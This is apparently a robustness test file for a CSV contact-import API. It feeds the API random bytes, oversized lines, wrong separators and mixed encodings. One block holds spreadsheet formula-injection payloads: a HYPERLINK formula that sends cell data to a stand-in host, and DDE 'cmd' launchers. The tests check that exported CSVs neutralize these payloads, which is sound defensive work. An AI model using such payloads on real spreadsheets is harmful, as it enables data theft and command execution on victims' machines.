import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importWorkflowId, type ImportProgress } from '../../src/workflows/imports/messages';
import { bearer, createTestStack, type TestStack, type TestTenant } from '../helpers/app';
import { multipart } from '../helpers/multipart';

/**
 * Bad input through the API never gives a 5xx nor stops the worker: each file ends either in a
 * 4xx problem+json answered at once, or in a completed import whose counts add up.
 */
let stack: TestStack;
let tenant: TestTenant;

beforeAll(async () => {
  stack = await createTestStack({ name: 'import-robustness', withWorker: true, env: { IMPORT_MAX_BYTES: '1000000' } });
  tenant = await stack.createTenant('Robustez');
});
afterAll(() => stack.close());

/** mulberry32: the same bytes for the same seed, run after run. */
function prng(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const randomBytes = (seed: number, length: number, alphabet?: number[]) => {
  const next = prng(seed);
  return Buffer.from(Array.from({ length }, () => (alphabet ? alphabet[Math.floor(next() * alphabet.length)] : Math.floor(next() * 256))));
};
/** Bytes that look like text (printable, accents, the CSV's own ; " and line breaks): they pass the upload checks. */
const TEXTISH = [
  ...Array.from({ length: 0x5f }, (_, i) => 0x20 + i),
  ...Array.from({ length: 0x60 }, (_, i) => 0xa0 + i),
  0x3b,
  0x3b,
  0x3b,
  0x22,
  0x0a,
  0x0a,
  0x0d,
  0x30,
  0x35,
  0x39,
];

const HEADER = 'nome;telefone1;telefone2;email';
let groupSeq = 0;
let phoneSeq = 0;
/** n valid rows with fresh phones. */
const validRows = (n: number) => Array.from({ length: n }, () => `Contato ${++phoneSeq};55489${String(10_000_000 + phoneSeq)};;c${phoneSeq}@x.com`);

interface Outcome {
  status: number;
  code?: string;
  groupId?: string;
  importId?: string;
  result?: ImportProgress;
}

/** Uploads a file as a new group, and waits for its import when one starts. */
async function importFile(content: Buffer | string): Promise<Outcome> {
  const form = multipart({ name: `Robustez ${++groupSeq}`, kind: 'dialer' }, { filename: `arquivo-${groupSeq}.csv`, content });
  const res = await stack.app.inject({
    method: 'POST',
    url: '/v1/contact-groups',
    headers: { ...bearer(tenant.supervisorKey), ...form.headers },
    payload: form.payload,
  });
  expect(res.statusCode).toBeLessThan(500);
  if (res.statusCode !== 202) {
    expect(res.statusCode).toBeGreaterThanOrEqual(400);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    return { status: res.statusCode, code: res.json().code };
  }
  const { group, import: started } = res.json();
  const result: ImportProgress = await stack.temporal.workflow.getHandle(importWorkflowId(started.id)).result();
  return { status: 202, groupId: group.id, importId: started.id, result };
}

/** A completed import's counts add up, and agree with what the database holds. */
async function expectConsistent(outcome: Outcome) {
  const { result } = outcome;
  expect(result?.state).toBe('completed');
  expect(result!.rowsRead).toBe(result!.rowsImported + result!.rowsRejected);
  const db = stack.database.db;
  const contacts = await db
    .selectFrom('contacts')
    .select((eb) => eb.fn.countAll<string>().as('n'))
    .where('group_id', '=', outcome.groupId!)
    .executeTakeFirstOrThrow();
  const rejections = await db
    .selectFrom('import_rejections')
    .select((eb) => eb.fn.countAll<string>().as('n'))
    .where('import_id', '=', outcome.importId!)
    .executeTakeFirstOrThrow();
  expect(Number(contacts.n)).toBe(result!.rowsImported);
  expect(Number(rejections.n)).toBe(result!.rowsRejected);
  const csv = await get(`/v1/imports/${outcome.importId}/rejections.csv`);
  expect(csv.statusCode).toBe(200);
}

const get = (url: string) => stack.app.inject({ method: 'GET', url, headers: bearer(tenant.viewerKey) });

/** The cells of one `;` CSV line, quotes removed. */
function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (line[i] === '"') {
      for (i++; i < line.length; i++) {
        if (line[i] === '"' && line[i + 1] === '"') (cell += '"'), i++;
        else if (line[i] === '"') break;
        else cell += line[i];
      }
      i++;
    } else {
      const end = line.indexOf(';', i);
      cell = line.slice(i, end === -1 ? line.length : end);
      i = end === -1 ? line.length : end;
    }
    cells.push(cell);
    if (line[i] !== ';') return cells;
    i++;
  }
}

/** The rejected-rows CSV's lines, without its BOM and header. */
async function rejectedCsvRows(importId: string): Promise<string[]> {
  const res = await get(`/v1/imports/${importId}/rejections.csv`);
  expect(res.statusCode).toBe(200);
  return res.body
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .slice(1, -1);
}

describe('random bytes', () => {
  it.each([1, 2, 3])('seed %i: pure random bytes are refused at once as a 4xx problem', async (seed) => {
    const outcome = await importFile(randomBytes(seed, 8 * 1024));
    expect(outcome.status).toBe(422);
    expect(outcome.code).toBe('FILE_BINARY');
  });

  it.each([4, 5, 6])('seed %i: a header then text-like random bytes either is refused or imports with consistent counts', async (seed) => {
    const outcome = await importFile(Buffer.concat([Buffer.from(HEADER + '\n'), randomBytes(seed, 20 * 1024, TEXTISH)]));
    if (outcome.status !== 202) expect(outcome.status).toBe(422);
    else {
      await expectConsistent(outcome);
      expect(outcome.result!.rowsImported).toBe(0);
    }
  });

  it.each([7, 8])('seed %i: binary garbage past the checked start is rejected row by row; the valid rows before it are imported', async (seed) => {
    // More than the 64 KiB the upload inspects, so the garbage reaches the worker.
    const rows = validRows(2_000);
    const text = HEADER + '\n' + rows.join('\n') + '\n';
    expect(text.length).toBeGreaterThan(64 * 1024);
    const outcome = await importFile(Buffer.concat([Buffer.from(text), randomBytes(seed, 30 * 1024)]));
    expect(outcome.status).toBe(202);
    await expectConsistent(outcome);
    expect(outcome.result!.rowsImported).toBe(rows.length);
    expect(outcome.result!.rowsRejected).toBeGreaterThan(0);
  });
});

describe('huge lines', () => {
  it('a 300 KB line without a newline after the header is one rejected row (LINE_TOO_LONG)', async () => {
    const outcome = await importFile(`${HEADER}\nAna;5548998288774;${'x'.repeat(300 * 1024)}`);
    expect(outcome.status).toBe(202);
    await expectConsistent(outcome);
    expect(outcome.result).toMatchObject({ rowsRead: 1, rowsImported: 0, rowsRejected: 1 });
    const [rejection] = (await get(`/v1/imports/${outcome.importId}/rejections`)).json().items;
    expect(rejection).toMatchObject({ line: 2, reasons: [expect.objectContaining({ code: 'LINE_TOO_LONG' })] });
    expect(rejection.raw.length).toBeLessThanOrEqual(4001);
  });

  it('a runaway quote costs the rows it swallows, not the file: the rows after it are imported', async () => {
    const [after] = validRows(1);
    const outcome = await importFile(`${HEADER}\n"Aspas sem fim;5548998288775\n${'linha\n'.repeat(12_000)}${after}\n`);
    expect(outcome.status).toBe(202);
    await expectConsistent(outcome);
    expect(outcome.result!.rowsImported).toBe(1);
    const [first] = (await get(`/v1/imports/${outcome.importId}/rejections?limit=1`)).json().items;
    expect(first.line).toBe(2);
    expect(['LINE_TOO_LONG', 'MALFORMED_ROW']).toContain(first.reasons[0].code);
    const contacts = (await get(`/v1/contact-groups/${outcome.groupId}/contacts`)).json().items;
    expect(contacts.map((c: { name: string }) => c.name)).toEqual([after.split(';')[0]]);
  });

  it('a 300 KB header alone is refused at once', async () => {
    const outcome = await importFile(`nome;telefone1;${'h'.repeat(300 * 1024)}`);
    expect(outcome.status).toBe(422);
    expect(outcome.code).toBe('HEADER_TOO_LONG');
  });
});

describe('wrong separators', () => {
  it.each([
    ['commas', 'nome,telefone1\nAna,5548998288774\n', 'WRONG_SEPARATOR'],
    ['tabs', 'nome\ttelefone1\nAna\t5548998288774\n', 'WRONG_SEPARATOR'],
    ['quoted commas', '"nome","telefone1"\n"Ana","5548998288774"\n', 'WRONG_SEPARATOR'],
    ['pipes', 'nome|telefone1\nAna|5548998288774\n', 'NAME_COLUMN_MISSING'],
  ])('a header separated by %s is refused at once', async (_label, content, code) => {
    const outcome = await importFile(content);
    expect(outcome.status).toBe(422);
    expect(outcome.code).toBe(code);
  });

  it('rows separated by commas under a ";" header are rejected with their reasons', async () => {
    const outcome = await importFile(`${HEADER}\nAna,5548998288774,,\nBia,5548998288775,,\n`);
    expect(outcome.status).toBe(202);
    await expectConsistent(outcome);
    expect(outcome.result).toMatchObject({ rowsRead: 2, rowsImported: 0, rowsRejected: 2 });
    const rejections = (await get(`/v1/imports/${outcome.importId}/rejections`)).json().items;
    expect(rejections.map((r: { reasons: { code: string }[] }) => r.reasons.map((x) => x.code))).toEqual([
      ['COLUMN_COUNT', 'NO_PHONE'],
      ['COLUMN_COUNT', 'NO_PHONE'],
    ]);
  });
});

describe('mixed encodings', () => {
  const utf8 = (s: string) => Buffer.from(s, 'utf8');
  const cp1252 = (s: string) => iconv.encode(s, 'win1252');
  const lines = (...parts: Buffer[]) => Buffer.concat(parts.flatMap((p) => [p, Buffer.from('\r\n')]));

  it.each([
    ['UTF-8 first', [utf8, cp1252, utf8, cp1252]],
    ['Windows-1252 first', [cp1252, utf8, cp1252, utf8]],
  ] as const)('%s: "João" and "Conceição" come out right from both kinds of line', async (_label, encoders) => {
    const names = ['João Gonçalves', 'Maria Conceição', 'Sebastião Araújo', 'Inês Brandão'];
    const file = lines(
      utf8('nome;telefone1;cidade'),
      ...names.map((name, i) => encoders[i](`${name};55489${String(20_000_000 + ++phoneSeq)};São João`)),
      encoders[1]('Conceição sem telefone;;Florianópolis'),
    );
    const outcome = await importFile(file);
    expect(outcome.status).toBe(202);
    await expectConsistent(outcome);
    expect(outcome.result).toMatchObject({ rowsRead: 5, rowsImported: 4, rowsRejected: 1 });
    const contacts = (await get(`/v1/contact-groups/${outcome.groupId}/contacts`)).json().items;
    expect(contacts.map((c: { name: string; custom: Record<string, string> }) => [c.name, c.custom.cidade])).toEqual(names.map((n) => [n, 'São João']));
    const [rejected] = await rejectedCsvRows(outcome.importId!);
    expect(parseCsvLine(rejected).slice(0, 2)).toEqual(['6', 'Conceição sem telefone;;Florianópolis']);
  });
});

describe('formula-like cells', () => {
  const formulas = ['=HYPERLINK("http://malicioso.example/?x="&A1;"Clique")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];
  const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;

  it("are stored as data, and come out of the rejected-rows CSV prefixed with '", async () => {
    const [p1, p2] = [`55489${String(30_000_000 + ++phoneSeq)}`, `55489${String(30_000_000 + ++phoneSeq)}`];
    const outcome = await importFile(
      [
        'nome;telefone1;observacao',
        `${quote(formulas[0])};${p1};${quote(formulas[1])}`, // imported: the formulas are just text
        `Ana;${p2};${quote(formulas[3])}`, // imported
        `${formulas[1]};123;`, // rejected: invalid phone
        `${formulas[2]};;`, // rejected: no phone
        `${quote(formulas[0])};=1+1;`, // rejected: phone is a formula
      ].join('\n') + '\n',
    );
    expect(outcome.status).toBe(202);
    await expectConsistent(outcome);
    expect(outcome.result).toMatchObject({ rowsRead: 5, rowsImported: 2, rowsRejected: 3 });

    const contacts = (await get(`/v1/contact-groups/${outcome.groupId}/contacts`)).json().items;
    expect(contacts.map((c: { name: string; custom: Record<string, string> }) => [c.name, c.custom.observacao])).toEqual([
      [formulas[0], formulas[1]],
      ['Ana', formulas[3]],
    ]);

    const rows = await rejectedCsvRows(outcome.importId!);
    expect(rows).toHaveLength(3);
    const cells = rows.map(parseCsvLine);
    // No cell of the download starts with a formula character.
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells.map((c) => c.slice(0, 2))).toEqual([
      ['4', `'${formulas[1]};123;`],
      ['5', `'${formulas[2]};;`],
      // A raw line that starts with a quote is not a formula: it is kept as it was.
      ['6', `${quote(formulas[0])};=1+1;`],
    ]);
  });
});

describe('after all of that', () => {
  it('the worker still runs: a normal import completes with exact counts', async () => {
    const rows = validRows(50);
    const outcome = await importFile([HEADER, ...rows, ';5548998288776;;', rows[0]].join('\r\n') + '\r\n');
    expect(outcome.status).toBe(202);
    await expectConsistent(outcome);
    expect(outcome.result).toMatchObject({ rowsRead: 52, rowsImported: 50, rowsRejected: 2 });
  });
});
